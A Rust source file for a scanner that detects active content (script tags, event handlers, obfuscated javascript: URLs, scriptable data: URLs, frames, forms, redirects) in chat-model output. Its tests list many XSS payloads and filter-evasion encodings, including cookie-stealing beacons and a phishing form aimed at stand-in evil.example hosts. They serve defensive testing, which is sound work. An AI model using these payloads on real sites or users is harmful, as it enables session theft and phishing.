//! Active content in completions: markup that runs code or navigates when a
//! chat UI renders it as HTML.
//!
//! | category         | what                                                        | severity |
//! |------------------|-------------------------------------------------------------|----------|
//! | `script_tag`     | `<script`                                                   | High     |
//! | `event_handler`  | `onerror=`, `onload=`, … inside a tag (also `<svg/onload=`) | High     |
//! | `javascript_url` | `javascript:` / `vbscript:` URLs, also written with entities, tabs, newlines, mixed case, zero-width or fullwidth letters | High |
//! | `data_html_url`  | `data:text/html` and other scriptable `data:` URLs          | High     |
//! | `embedded_frame` | `<iframe`, `<frame`, `<frameset`                            | Medium   |
//! | `embedded_object`| `<object`, `<embed`, `<applet`                              | Medium   |
//! | `form_action`    | `<form action=…>`                                           | Medium   |
//! | `meta_refresh`   | `<meta http-equiv="refresh">`                               | Medium   |
//! | `base_tag`       | `<base href=…>` (re-targets every relative link)            | Medium   |
//! | `css_expression` | CSS `expression(…)` and `-moz-binding`                      | Medium   |
//!
//! Tags are parsed by hand, the way a browser tokenizes them: attributes
//! are separated by whitespace or `/`, and a `>` inside a quoted value does
//! not end the tag. Escaped markup (`&lt;script&gt;`) is inert and is not
//! reported. A `javascript:` scheme counts only where it can be a URL: right
//! after `=`, `(`, a quote or `<`, or followed directly by the URL body —
//! so "JavaScript: The Good Parts" is prose.

use std::sync::LazyLock;

use regex::Regex;

use crate::scanner::{ScanContext, Scanner};
use crate::types::{Severity, Threat, ThreatType};

/// Reports script tags, event handlers, `javascript:` URLs and other active
/// markup (`malicious_content`).
#[derive(Debug, Clone)]
pub struct MarkupScanner {
    id: String,
}

impl MarkupScanner {
    /// A scanner with this instance id.
    pub fn new(id: impl Into<String>) -> MarkupScanner {
        MarkupScanner { id: id.into() }
    }
}

#[allow(clippy::expect_used)] // constant patterns, checked by the tests
fn re(p: &str) -> Regex {
    Regex::new(p).expect("built-in markup pattern compiles")
}

/// How far back from a colon a scheme is looked for (room for every letter
/// written as a zero-padded character reference, with gaps).
const MAX_SCHEME: usize = 256;

/// Parses a character reference at `at`: `&#106;`, `&#x6A`, `&tab;`,
/// `&newline;`, `&colon;` (the `;` of numeric ones optional, as browsers
/// accept). Returns the character and the end of the reference.
fn entity_at(b: &[u8], at: usize) -> Option<(char, usize)> {
    if b.get(at) != Some(&b'&') {
        return None;
    }
    let rest = &b[at + 1..];
    for (name, c) in [("tab;", '\t'), ("newline;", '\n'), ("colon;", ':')] {
        if rest.len() >= name.len() && rest[..name.len()].eq_ignore_ascii_case(name.as_bytes()) {
            return Some((c, at + 1 + name.len()));
        }
    }
    if rest.first() != Some(&b'#') {
        return None;
    }
    let mut i = at + 2;
    let hex = matches!(b.get(i), Some(b'x' | b'X'));
    if hex {
        i += 1;
    }
    let radix = if hex { 16 } else { 10 };
    let ds = i;
    let mut v: u32 = 0;
    while i < b.len() && i - ds < 16 {
        let Some(d) = char::from(b[i]).to_digit(radix) else {
            break;
        };
        v = v.saturating_mul(radix).saturating_add(d);
        i += 1;
    }
    if i == ds {
        return None;
    }
    if b.get(i) == Some(&b';') {
        i += 1;
    }
    Some((char::from_u32(v)?, i))
}

/// The character reference that ends exactly at `end`, and its start.
fn entity_before(b: &[u8], end: usize) -> Option<(char, usize)> {
    if end == 0 || !(b[end - 1] == b';' || b[end - 1].is_ascii_hexdigit()) {
        return None;
    }
    let lo = end.saturating_sub(24);
    let amp = (lo..end).rev().find(|&i| b[i] == b'&')?;
    let (c, e) = entity_at(b, amp)?;
    (e == end).then_some((c, amp))
}

/// Steps back over whitespace, NUL and tab/newline references, which
/// browsers drop from a URL scheme.
fn skip_gap_back(b: &[u8], mut end: usize, floor: usize, amp: bool) -> usize {
    while end > floor {
        if matches!(b[end - 1], b' ' | b'\t' | b'\n' | b'\r' | 0x0C | 0) {
            end -= 1;
            continue;
        }
        if !amp {
            break;
        }
        match entity_before(b, end) {
            Some(('\t' | '\n' | '\r', s)) => end = s,
            _ => break,
        }
    }
    end
}

/// Where `word` (ASCII lowercase) is written just before `end`, case
/// insensitively, each letter plain or as a character reference, with gaps
/// between: the start of its first letter.
/// `amp` says whether the text holds any `&` (else no references exist).
fn word_before(b: &[u8], end: usize, word: &[u8], floor: usize, amp: bool) -> Option<usize> {
    let mut end = end;
    for &want in word.iter().rev() {
        end = skip_gap_back(b, end, floor, amp);
        if end <= floor {
            return None;
        }
        // A reference first: in `&#x6A` the `A` is a digit of the reference.
        let (c, start) = match if amp { entity_before(b, end) } else { None } {
            Some(e) => e,
            None if b[end - 1].is_ascii_alphabetic() => (char::from(b[end - 1]), end - 1),
            None => return None,
        };
        if !c.eq_ignore_ascii_case(&char::from(want)) {
            return None;
        }
        end = start;
    }
    Some(end)
}

/// Colons in `text`, plain or as references: `(start, end)` of each.
fn colons(text: &str) -> Vec<(usize, usize)> {
    let b = text.as_bytes();
    let mut out: Vec<(usize, usize)> = text.match_indices(':').map(|(i, _)| (i, i + 1)).collect();
    if text.contains('&') {
        for (i, _) in text.match_indices('&') {
            if let Some((':', e)) = entity_at(b, i) {
                out.push((i, e));
            }
        }
        out.sort_unstable();
    }
    out
}

static DATA_HTML: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)data:\s*(?:text/html|application/xhtml\+xml|image/svg\+xml|text/javascript|application/javascript|application/x-javascript)",
    )
});
static CSS: LazyLock<Regex> = LazyLock::new(|| re(r"(?i):\s*expression\s*\(|-moz-binding\s*:\s*url\s*\("));

/// DOM event names, without the `on` (prefix match: `mouse` covers
/// `onmouseover`, `onmouseenter`, …).
const EVENTS: &[&str] = &[
    "abort",
    "afterprint",
    "animation",
    "auxclick",
    "beforeinput",
    "beforeprint",
    "beforetoggle",
    "beforeunload",
    "begin",
    "blur",
    "canplay",
    "change",
    "click",
    "close",
    "contextmenu",
    "copy",
    "cuechange",
    "cut",
    "dblclick",
    "drag",
    "drop",
    "durationchange",
    "emptied",
    "end",
    "error",
    "focus",
    "formdata",
    "fullscreen",
    "gotpointercapture",
    "hashchange",
    "input",
    "invalid",
    "key",
    "load",
    "lostpointercapture",
    "message",
    "mouse",
    "offline",
    "online",
    "pagehide",
    "pageshow",
    "paste",
    "pause",
    "play",
    "pointer",
    "popstate",
    "progress",
    "ratechange",
    "readystatechange",
    "repeat",
    "reset",
    "resize",
    "scroll",
    "search",
    "securitypolicyviolation",
    "seek",
    "select",
    "show",
    "slotchange",
    "stalled",
    "start",
    "storage",
    "submit",
    "suspend",
    "timeupdate",
    "toggle",
    "touch",
    "transition",
    "unhandledrejection",
    "unload",
    "volumechange",
    "waiting",
    "webkit",
    "wheel",
    "zoom",
];

/// True for an attribute name that is an inline event handler.
fn is_event_handler(name: &str) -> bool {
    let n = name.to_ascii_lowercase();
    n.strip_prefix("on").is_some_and(|rest| EVENTS.iter().any(|e| rest.starts_with(e)))
}

/// One tag: its name and attributes (slices of the text), and where it ends.
#[derive(Debug)]
pub(crate) struct Tag<'t> {
    pub(crate) name: &'t str,
    pub(crate) attrs: Vec<(&'t str, &'t str)>,
    pub(crate) end: usize,
}

/// Every start tag of `text` (a `<` followed by a letter) with its offset,
/// in order; the search resumes after each tag's end.
pub(crate) fn start_tags(text: &str) -> impl Iterator<Item = (usize, Tag<'_>)> {
    let b = text.as_bytes();
    let mut pos = 0;
    std::iter::from_fn(move || {
        while let Some(p) = text.get(pos..)?.find('<') {
            let lt = pos + p;
            pos = lt + 1;
            if !b.get(lt + 1).is_some_and(u8::is_ascii_alphabetic) {
                continue;
            }
            let tag = parse_tag(text, lt);
            pos = pos.max(tag.end.min(text.len()));
            while !text.is_char_boundary(pos) {
                pos += 1;
            }
            return Some((lt, tag));
        }
        None
    })
}

/// Tokenizes the start tag at `lt` (which holds `<` followed by a letter).
pub(crate) fn parse_tag(text: &str, lt: usize) -> Tag<'_> {
    let b = text.as_bytes();
    let mut limit = (lt + 8192).min(b.len());
    while !text.is_char_boundary(limit) {
        limit -= 1;
    }
    let mut i = lt + 1;
    while i < limit && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'-' | b':' | b'_')) {
        i += 1;
    }
    let name = &text[lt + 1..i];
    let mut attrs = Vec::new();
    loop {
        while i < limit && (b[i].is_ascii_whitespace() || b[i] == b'/') {
            i += 1;
        }
        if i >= limit || b[i] == b'>' || b[i] == b'<' {
            break;
        }
        let ns = i;
        while i < limit && !(b[i].is_ascii_whitespace() || matches!(b[i], b'=' | b'>' | b'/' | b'<')) {
            i += 1;
        }
        if i == ns {
            // A stray `=`: skip it.
            i += 1;
            continue;
        }
        let attr = &text[ns..i];
        let mut j = i;
        while j < limit && b[j].is_ascii_whitespace() {
            j += 1;
        }
        if j < limit && b[j] == b'=' {
            j += 1;
            while j < limit && b[j].is_ascii_whitespace() {
                j += 1;
            }
            let (vs, ve, next) = match b.get(j) {
                Some(&q @ (b'"' | b'\'')) if j < limit => {
                    let vs = j + 1;
                    let ve = text[vs..limit].find(char::from(q)).map_or(limit, |p| vs + p);
                    (vs, ve, (ve + 1).min(limit))
                }
                _ => {
                    let vs = j;
                    let mut ve = j;
                    while ve < limit && !(b[ve].is_ascii_whitespace() || matches!(b[ve], b'>' | b'<')) {
                        ve += 1;
                    }
                    (vs, ve, ve)
                }
            };
            attrs.push((attr, text.get(vs..ve).unwrap_or("")));
            i = next;
        } else {
            attrs.push((attr, ""));
        }
    }
    let end = if i < b.len() && b[i] == b'>' { i + 1 } else { i };
    Tag { name, attrs, end }
}

impl MarkupScanner {
    /// Appends one threat; `what` is (category, rule, severity, confidence).
    fn push(
        &self,
        cx: &ScanContext<'_>,
        out: &mut Vec<Threat>,
        (s, e): (usize, usize),
        (category, rule, severity, confidence): (&'static str, &'static str, Severity, f64),
        evidence: String,
    ) {
        out.push(
            Threat::new(
                ThreatType::MaliciousContent,
                category,
                severity,
                confidence,
                cx.normalized.to_original(s, e),
                evidence,
                self.id.as_str(),
            )
            .with_rule(rule),
        );
    }

    fn tags(&self, cx: &ScanContext<'_>, text: &str, out: &mut Vec<Threat>) {
        for (lt, tag) in start_tags(text) {
            let name = tag.name.to_ascii_lowercase();
            let span = (lt, tag.end.max(lt + 1));
            let attr = |n: &str| tag.attrs.iter().find(|(a, _)| a.eq_ignore_ascii_case(n)).map(|(_, v)| *v);
            // Data blocks (`application/ld+json`, `text/template`) are not run.
            let inert_script = attr("type").is_some_and(|t| {
                let t = t.trim().to_ascii_lowercase();
                !(t.is_empty()
                    || t == "module"
                    || t.contains("javascript")
                    || t.contains("ecmascript")
                    || t.contains("jscript")
                    || t.contains("vbscript"))
            });
            match name.as_str() {
                "script" if !inert_script => {
                    self.push(cx, out, span, ("script_tag", "script_tag", Severity::High, 0.95), "<script> tag".into())
                }
                "iframe" | "frame" | "frameset" => self.push(
                    cx,
                    out,
                    span,
                    ("embedded_frame", "frame_tag", Severity::Medium, 0.8),
                    format!("<{name}> tag"),
                ),
                "object" | "embed" | "applet" => self.push(
                    cx,
                    out,
                    span,
                    ("embedded_object", "object_tag", Severity::Medium, 0.8),
                    format!("<{name}> tag"),
                ),
                "form" if attr("action").is_some() => self.push(
                    cx,
                    out,
                    span,
                    ("form_action", "form_action", Severity::Medium, 0.7),
                    "<form> that posts to an action URL".into(),
                ),
                "meta" if attr("http-equiv").is_some_and(|v| v.trim().eq_ignore_ascii_case("refresh")) => self.push(
                    cx,
                    out,
                    span,
                    ("meta_refresh", "meta_refresh", Severity::Medium, 0.8),
                    "<meta http-equiv=\"refresh\"> redirect".into(),
                ),
                "base" if attr("href").is_some() => self.push(
                    cx,
                    out,
                    span,
                    ("base_tag", "base_tag", Severity::Medium, 0.7),
                    "<base href> re-targets relative links".into(),
                ),
                _ => {}
            }
            if let Some((h, _)) = tag.attrs.iter().find(|(a, _)| is_event_handler(a)) {
                let handler = h.to_ascii_lowercase();
                let rule = if name == "svg" { "svg_event_handler" } else { "event_handler" };
                self.push(
                    cx,
                    out,
                    span,
                    ("event_handler", rule, Severity::High, 0.9),
                    format!("inline {handler}= handler on <{name}>"),
                );
            }
        }
    }

    /// `javascript:` and `vbscript:` URLs: from each colon, the scheme is
    /// read backwards, so obfuscated spellings cost nothing on text
    /// without them.
    fn script_urls(&self, cx: &ScanContext<'_>, text: &str, colons: &[(usize, usize)], out: &mut Vec<Threat>) {
        let b = text.as_bytes();
        let amp = text.contains('&');
        for &(cs, ce) in colons {
            let floor = cs.saturating_sub(MAX_SCHEME);
            let found = word_before(b, cs, b"javascript", floor, amp)
                .map(|s| (s, false))
                .or_else(|| word_before(b, cs, b"vbscript", floor, amp).map(|s| (s, true)));
            let Some((s, vb)) = found else { continue };
            if !url_context(text, s, ce) {
                continue;
            }
            let written = &text[s..ce];
            let plain = written.eq_ignore_ascii_case("javascript:") || written.eq_ignore_ascii_case("vbscript:");
            self.push(
                cx,
                out,
                (s, url_body_end(text, ce)),
                ("javascript_url", if vb { "vbscript_url" } else { "javascript_url" }, Severity::High, 0.9),
                format!(
                    "{} URL{}",
                    if vb { "vbscript:" } else { "javascript:" },
                    if plain { "" } else { " (obfuscated)" }
                ),
            );
        }
    }
}

/// True when a scheme at `[s, e)` sits where a URL goes.
fn url_context(text: &str, s: usize, e: usize) -> bool {
    let before = text[..s].trim_end_matches([' ', '\t', '\n', '\r']);
    let prev = before.chars().next_back();
    if matches!(prev, Some('=' | '(' | '"' | '\'' | '<')) {
        return true;
    }
    let next = text[e..].chars().next();
    next.is_some_and(|c| !c.is_whitespace() && !matches!(c, '`' | '\'' | '"' | ')' | '*' | ','))
}

/// End of the URL body after a scheme: up to whitespace, a quote, `>` or
/// 200 bytes.
fn url_body_end(text: &str, e: usize) -> usize {
    let mut end = e;
    for (i, c) in text[e..].char_indices() {
        if i > 200 || c.is_whitespace() || matches!(c, '"' | '\'' | '>' | '<' | '`') {
            break;
        }
        end = e + i + c.len_utf8();
    }
    end
}

impl Scanner for MarkupScanner {
    fn id(&self) -> &str {
        &self.id
    }

    fn scan(&self, cx: &ScanContext<'_>, out: &mut Vec<Threat>) {
        let text = cx.normalized.text();
        let has_lt = text.contains('<');
        let has_colon = text.contains(':');
        if !has_lt && !has_colon && !text.contains('&') {
            return;
        }
        if has_lt {
            self.tags(cx, text, out);
        }
        let colons = colons(text);
        self.script_urls(cx, text, &colons, out);
        // `data:` and CSS `: expression(` / `-moz-binding:` all sit at a colon.
        let b = text.as_bytes();
        let (mut css, mut data) = (false, false);
        for &(cs, ce) in &colons {
            data |= cs >= 4 && b[cs - 4..cs].eq_ignore_ascii_case(b"data");
            let after = text[ce..].trim_start();
            css |= after.len() >= 10 && after.as_bytes()[..10].eq_ignore_ascii_case(b"expression");
            let before = text[..cs].trim_end();
            css |= before.len() >= 12 && before.as_bytes()[before.len() - 12..].eq_ignore_ascii_case(b"-moz-binding");
        }
        if data {
            for m in DATA_HTML.find_iter(text) {
                if !url_context(text, m.start(), m.start() + "data:".len()) {
                    continue;
                }
                self.push(
                    cx,
                    out,
                    (m.start(), url_body_end(text, m.end())),
                    ("data_html_url", "data_html_url", Severity::High, 0.8),
                    "scriptable data: URL".into(),
                );
            }
        }
        if css {
            for m in CSS.find_iter(text) {
                self.push(
                    cx,
                    out,
                    (m.start(), m.end()),
                    ("css_expression", "css_expression", Severity::Medium, 0.7),
                    "CSS that runs script (expression / -moz-binding)".into(),
                );
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize::{NormalizeOptions, Normalized};

    fn scan(text: &str) -> Vec<Threat> {
        let n = Normalized::new(text, &NormalizeOptions::default());
        let cx = ScanContext { normalized: &n, output: None };
        let mut out = Vec::new();
        MarkupScanner::new("markup").scan(&cx, &mut out);
        out
    }

    fn cats(text: &str) -> Vec<String> {
        scan(text).into_iter().map(|t| t.category).collect()
    }

    #[test]
    fn flags_active_content() {
        // (text, category, note)
        let cases: &[(&str, &str, &str)] = &[
            ("<script>alert(1)</script>", "script_tag", "classic XSS probe"),
            ("<ScRiPt src=//evil.example/x.js></sCrIpT>", "script_tag", "mixed case, remote src"),
            ("<img src=x onerror=alert(document.cookie)>", "event_handler", "PortSwigger cheat sheet img/onerror"),
            ("<svg/onload=alert(1)>", "event_handler", "svg with slash separator"),
            ("<body onload=\"fetch('//e.example?c='+document.cookie)\">", "event_handler", "body onload beacon"),
            ("<img src=\"a>b\" onerror=alert(1)>", "event_handler", "'>' inside a quoted value does not end the tag"),
            ("<details open ontoggle=alert(1)>", "event_handler", "ontoggle without user interaction"),
            ("<a href=\"javascript:alert(1)\">click</a>", "javascript_url", "javascript: in href"),
            ("[click me](javascript:alert(document.domain))", "javascript_url", "markdown link XSS"),
            (
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "javascript_url",
                "tab entity inside the scheme (OWASP filter evasion)",
            ),
            (
                "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
                "javascript_url",
                "decimal entities for every letter",
            ),
            ("<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>", "javascript_url", "&colon; entity"),
            ("<a href=\"java\u{200B}script:alert(1)\">x</a>", "javascript_url", "zero-width space inside the scheme"),
            ("<a href=\"ｊａｖａｓｃｒｉｐｔ:alert(1)\">x</a>", "javascript_url", "fullwidth letters"),
            ("<a href=\"vbscript:msgbox(1)\">x</a>", "javascript_url", "legacy IE vbscript"),
            ("<a href=\"javascript&#x3A;alert(1)\">x</a>", "javascript_url", "hex colon reference"),
            (
                "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
                "javascript_url",
                "hex references without semicolons (OWASP XSS cheat sheet)",
            ),
            (
                "<a href=\"&#0000106&#0000097vascript:alert(1)\">x</a>",
                "javascript_url",
                "zero-padded decimal references",
            ),
            ("<a href=\"java&#10;script:alert(1)\">x</a>", "javascript_url", "newline reference inside the scheme"),
            ("[x](java\tscript:alert(1))", "javascript_url", "tab inside the scheme in a markdown link"),
            ("<A HREF=\"JAVASCRIPT:alert(1)\">x</A>", "javascript_url", "upper case"),
            ("<iframe src=\"https://evil.example\"></iframe>", "embedded_frame", "iframe"),
            ("<object data=\"x.swf\"></object>", "embedded_object", "object"),
            ("<embed src=\"x.swf\">", "embedded_object", "embed"),
            (
                "<form action=\"https://evil.example/collect\"><input name=pw></form>",
                "form_action",
                "credential phishing form",
            ),
            ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "meta_refresh", "meta redirect"),
            ("<base href=\"https://evil.example/\">", "base_tag", "base hijack"),
            ("<div style=\"width: expression(alert(1))\">", "css_expression", "IE CSS expression"),
            (
                "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
                "data_html_url",
                "data:text/html in iframe",
            ),
        ];
        for (text, cat, note) in cases {
            let found = scan(text);
            let t = found.iter().find(|t| t.category == *cat);
            assert!(t.is_some(), "{note}: {text:?} → {found:?}");
            for t in &found {
                assert_eq!(t.kind, ThreatType::MaliciousContent);
                assert!(text.is_char_boundary(t.span.start) && text.is_char_boundary(t.span.end));
                if matches!(*cat, "script_tag" | "event_handler" | "javascript_url") && t.category == *cat {
                    assert_eq!(t.severity, Severity::High, "{note}");
                }
            }
        }
    }

    #[test]
    fn benign_look_alikes() {
        let cases: &[(&str, &str)] = &[
            ("I love onion soup; the site is online=true now.", "onion / online= in prose"),
            ("Read JavaScript: The Good Parts by Crockford.", "book title"),
            ("Learn JavaScript:\n- variables\n- functions", "heading with a colon"),
            ("Avoid `javascript:` URLs in links.", "code span naming the scheme"),
            ("Use &lt;script&gt; only in trusted pages.", "escaped markup is inert"),
            ("if a < b && c > d { return; }", "comparisons"),
            ("let v: Vec<String> = Vec::new();", "generics"),
            ("<div class=\"note\"><b>Bold</b> and <i>italic</i></div>", "plain formatting tags"),
            ("<img src=\"cat.png\" alt=\"a cat\" online=\"yes\">", "online attribute is not an event"),
            ("<a href=\"https://example.com\">link</a>", "ordinary link"),
            ("The regular expression (regex) matches.", "the word expression"),
            ("Plain text with no markup at all", "prose"),
            ("<form><input name=q></form>", "form without action"),
            ("<script type=\"application/ld+json\">{\"@type\": \"Person\"}</script>", "JSON-LD data block"),
            ("Output: done. Note: see the script: run it.", "colons after words ending in t"),
            ("Use a transcript: it helps.", "word ending in 'script:'"),
        ];
        for (text, note) in cases {
            let found = scan(text);
            assert!(found.is_empty(), "{note}: {text:?} → {found:?}");
        }
    }

    #[test]
    fn one_threat_per_tag_and_category() {
        let c = cats("<img src=x onerror=a() onload=b()>");
        assert_eq!(c, ["event_handler"]);
    }

    #[test]
    fn pathological_inputs_do_not_panic() {
        for t in [
            "<".repeat(10_000),
            "<a ".repeat(3000),
            "<a b='".repeat(3000),
            "&#".repeat(3000),
            "j&#x09;".repeat(3000),
            "<a href=\"".to_owned() + &"x".repeat(20_000),
            format!("<a {}", "é".repeat(5000)),
            format!("<a b='{}", "é".repeat(5000)),
        ] {
            let _ = scan(&t);
        }
    }
}
